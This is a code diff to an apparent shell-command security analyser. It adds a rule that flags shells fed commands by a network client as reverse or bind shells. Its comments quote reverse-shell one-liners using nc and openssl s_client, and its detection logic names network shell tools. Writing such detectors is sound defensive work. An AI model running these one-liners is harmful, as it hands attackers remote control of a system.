@@ -80,9 +80,34 @@ function inspectHttpUpload(cmd: SimpleCommand, ctx: RuleContext): void {
   emit(ctx, known ? 'low' : 'medium', 'http_upload', `Sends local data to ${known ? 'the service' : 'the unrecognised external endpoint'} ${label}.`, external);
 }
 
+const STDIN_SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh']);
+
+/** The network client among a pipeline's other stages (`nc host port`, `openssl s_client -connect …`), if any. */
+function pipedNetworkClient(cmd: SimpleCommand): string | undefined {
+  const stages = cmd.pipeline.stages;
+  if (stages.length < 2) return undefined;
+  for (let k = 0; k < stages.length; k++) {
+    if (k === cmd.stage) continue;
+    for (const c of stages[k]) {
+      if (NET_TOOLS.has(c.name)) return c.name;
+      if (c.name === 'openssl' && (c.args[0] === 's_client' || c.args[0] === 's_server')) return `openssl ${c.args[0]}`;
+    }
+  }
+  return undefined;
+}
+
 export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext): void {
   const args = cmd.args;
   const name = cmd.name;
+  // A shell reading its commands from a pipe that a network client feeds (or whose output it
+  // sends back, through a fifo): `sh -i < f | openssl s_client -connect h:443 > f`, `nc h 4444 | bash`.
+  if (STDIN_SHELLS.has(name) && cmd.stage >= 0 && args.every((a) => a.startsWith('-') && !/^-[a-z]*c/.test(a))) {
+    const client = pipedNetworkClient(cmd);
+    if (client) {
+      emit(ctx, 'critical', 'reverse_shell', `${name} runs the commands ${client} receives over the network (a reverse or bind shell).`);
+      return;
+    }
+  }
   for (const r of cmd.redirects) {
     const m = /^\/dev\/(tcp|udp)\/([^/]+)\//.exec(r.target.text);
     if (!m) continue;
